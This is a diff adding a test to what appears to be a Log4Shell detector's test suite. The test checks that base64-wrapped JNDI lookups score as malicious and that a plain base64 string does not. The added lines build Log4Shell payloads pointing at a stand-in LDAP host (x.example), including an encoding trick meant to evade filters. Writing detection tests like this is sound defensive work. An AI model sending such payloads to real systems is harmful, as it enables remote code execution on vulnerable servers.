@@ -129,6 +129,12 @@ describe("expression analyzer: Log4Shell", () => {
     // Other template languages: bash and Compose defaults, Spring placeholders, JS templates.
     for (const s of ["${HOME:-/root}", "${SERVER_PORT:8080}", "Hello ${user.name}", "${a}:-b"]) expect(top(s, "log4shell")).toBe(0);
   });
+
+  test("a lookup sent in base64: Log4j decodes it and substitutes what it gives", () => {
+    const encoded = Buffer.from("${jndi:ldap://x.example/a}").toString("base64");
+    for (const s of [`\${base64:${encoded}}`, `\${\${base64:${encoded}}}`, `x \${base64:${encoded}} y`]) expect(top(s, "log4shell")).toBe(0.97);
+    expect(top(`\${base64:${Buffer.from("hello").toString("base64")}}`, "log4shell")).toBe(0);
+  });
 });
 
 describe("expression analyzer: sandbox walks without dunders", () => {
